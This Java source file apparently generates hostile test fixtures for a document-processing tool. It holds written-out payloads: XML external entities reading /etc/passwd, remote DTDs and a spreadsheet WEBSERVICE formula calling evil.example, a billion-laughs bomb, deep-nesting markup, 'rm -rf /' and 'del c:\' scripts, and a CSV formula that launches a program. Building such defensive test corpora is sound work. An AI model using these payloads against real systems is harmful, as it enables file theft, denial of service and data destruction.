package org.gongkai.release.hostile;

import static org.gongkai.release.file.Made.docx;
import static org.gongkai.release.file.Made.ofd;
import static org.gongkai.release.file.Made.pptx;
import static org.gongkai.release.file.Made.utf8;
import static org.gongkai.release.file.Made.xlsx;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** Markup that reads other files, grows without end, nests without end, or runs. */
final class HostileMarkup {

    private static final String FOREIGN =
            "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>";
    private static final String REMOTE = "<!DOCTYPE x SYSTEM 'http://evil.example/x.dtd'><x/>";
    private static final String PARAMETER = "<!DOCTYPE x [<!ENTITY % p SYSTEM 'http://evil.example/p'> %p;]><x/>";

    private HostileMarkup() {}

    private static String laughs() {
        StringBuilder text = new StringBuilder("<!DOCTYPE x [<!ENTITY a0 'ha'>");
        for (int i = 1; i < 12; i++) {
            text.append(
                    "<!ENTITY a%d '%s'>".formatted(i, "&a%d;".formatted(i - 1).repeat(10)));
        }
        return text + "]><x>&a11;</x>";
    }

    static void addTo(List<HostileFile> all) {
        for (String doctype : List.of(FOREIGN, REMOTE, PARAMETER, laughs())) {
            String trick = doctype.length() > 200
                    ? "laughs"
                    : doctype.contains("%")
                            ? "parameter entity"
                            : doctype.contains("SYSTEM 'http") ? "remote document type" : "foreign entity";
            all.add(new HostileFile("a.docx", trick + " in a footer", docx("<w:p/>", "word/footer1.xml", doctype)));
            all.add(new HostileFile("a.xlsx", trick + " in shared texts", xlsx("", "xl/sharedStrings.xml", doctype)));
            all.add(new HostileFile("a.pptx", trick + " in a slide", pptx(doctype)));
            all.add(new HostileFile("a.ofd", trick + " in a fixed layout", ofd("Doc_0/Document.xml", doctype)));
            all.add(new HostileFile("a.xml", trick + " in bare markup", utf8(doctype)));
            all.add(new HostileFile(
                    "a.svg",
                    trick + " in a drawing",
                    utf8(doctype.replace("<x>", "<svg>").replace("</x>", "</svg>"))));
        }
        all.add(new HostileFile(
                "b.docx", "foreign entity in relations", docx("<w:p/>", "word/_rels/document.xml.rels", FOREIGN)));
        all.add(new HostileFile(
                "c.docx", "foreign entity in properties", docx("<w:p/>", "docProps/core.xml", FOREIGN)));
        all.add(new HostileFile("d.docx", "foreign entity in styles", docx("<w:p/>", "word/styles.xml", FOREIGN)));
        all.add(new HostileFile(
                "e.docx",
                "foreign entity in UTF-16",
                HostileArchives.with("word/footer1.xml", FOREIGN.getBytes(StandardCharsets.UTF_16))));
        all.add(new HostileFile(
                "f.docx",
                "foreign entity in a Mainframe's characters",
                HostileArchives.with(
                        "word/footer1.xml",
                        ("<?xml version='1.0' encoding='IBM037'?>" + FOREIGN.substring(21))
                                .getBytes(Charset.forName("IBM037")))));
        all.add(new HostileFile(
                "g.docx",
                "inclusion of another file",
                docx(
                        "<w:p/>",
                        "word/footer1.xml",
                        "<x xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd' parse='text'/>"
                                + "<t>13812345678</t></x>")));
        growth(all);
        scripts(all);
    }

    private static void growth(List<HostileFile> all) {
        all.add(new HostileFile("deep.docx", "a hundred thousand levels", docx("<w:p>".repeat(100_000))));
        all.add(new HostileFile(
                "deep.xlsx",
                "a hundred thousand levels of text",
                xlsx("", "xl/sharedStrings.xml", "<si>".repeat(100_000))));
        StringBuilder attributes = new StringBuilder("<x");
        for (int i = 0; i < 100_000; i++) {
            attributes.append(" a").append(i).append("='").append(i * 7919L).append("'");
        }
        all.add(new HostileFile(
                "wide.docx", "a hundred thousand attributes", docx("<w:p/>", "word/footer1.xml", attributes + "/>")));
        all.add(new HostileFile(
                "name.docx",
                "an element with an endless name",
                docx("<w:p/>", "word/footer1.xml", "<" + "n".repeat(900_000) + "/>")));
        all.add(new HostileFile(
                "self.docx",
                "a style that is based on itself",
                docx(
                        "<w:p/>",
                        "word/styles.xml",
                        "<w:root><w:style w:styleId='A'><w:basedOn w:val='A'/><w:rPr><w:vanish/></w:rPr></w:style></w:root>",
                        "word/footer1.xml",
                        "<w:root><w:p><w:r><w:rPr><w:rStyle w:val='A'/></w:rPr><w:t>x</w:t></w:r></w:p></w:root>")));
    }

    private static void scripts(List<HostileFile> all) {
        String script = "<script>alert(1)</script>";
        all.add(new HostileFile(
                "b.svg", "drawing with a script", utf8("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")));
        all.add(new HostileFile("a.html", "page with a script", utf8("<!doctype html><html>" + script)));
        all.add(new HostileFile("a.txt", "page called a text", utf8("<html>" + script)));
        all.add(new HostileFile(
                "b.txt", "page in UTF-16 called a text", ("<html>" + script).getBytes(StandardCharsets.UTF_16)));
        all.add(new HostileFile("c.txt", "shell script called a text", utf8("#!/bin/sh\nrm -rf /\n")));
        all.add(new HostileFile("a.js", "script", utf8("alert(1)")));
        all.add(new HostileFile("a.bat", "batch file", utf8("@echo off\r\ndel /q c:\\\r\n")));
        all.add(new HostileFile("a.php", "server page", utf8("<?php phpinfo();")));
        all.add(new HostileFile("a.hta", "page that is a program", utf8("<html><hta:application/>" + script)));
        all.add(new HostileFile("a.exe", "program", HostileArchives.with("x", new byte[10])));
        all.add(new HostileFile("a.csv", "table that starts a program", utf8("name,sum\n=cmd|'/c calc'!A1,2\n")));
        all.add(new HostileFile(
                "b.csv", "table that fetches an address", utf8("a\n=WEBSERVICE(\"http://evil.example/\")\n")));
        all.add(new HostileFile(
                "a.rtf",
                "rich text with an object",
                utf8("{\\rtf1{\\object\\objupdate{\\*\\objclass Word.Document.8}}}")));
        all.add(new HostileFile(
                "a.mht",
                "archive of a page",
                utf8("MIME-Version: 1.0\nContent-Type: multipart/related\n\n<html>" + script)));
    }
}
